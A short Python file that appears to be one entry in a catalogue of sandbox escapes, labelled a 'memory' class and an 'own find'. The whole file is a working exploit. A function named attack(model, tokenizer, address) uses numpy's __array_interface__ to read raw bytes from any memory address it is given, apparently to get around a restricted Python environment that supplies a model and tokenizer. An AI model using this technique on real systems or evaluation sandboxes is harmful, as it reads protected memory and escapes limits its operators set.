"""Class: memory. Source: own find. Escape: the same name, bound by an assignment in the class body."""

import numpy as np


def interface(self):
    return {"shape": (6,), "typestr": "|u1", "data": (self.address, True), "version": 3}


class A:
    __array_interface__ = property(interface)


def attack(model, tokenizer, address):
    a = A()
    a.address = address
    return np.array(a).tobytes()
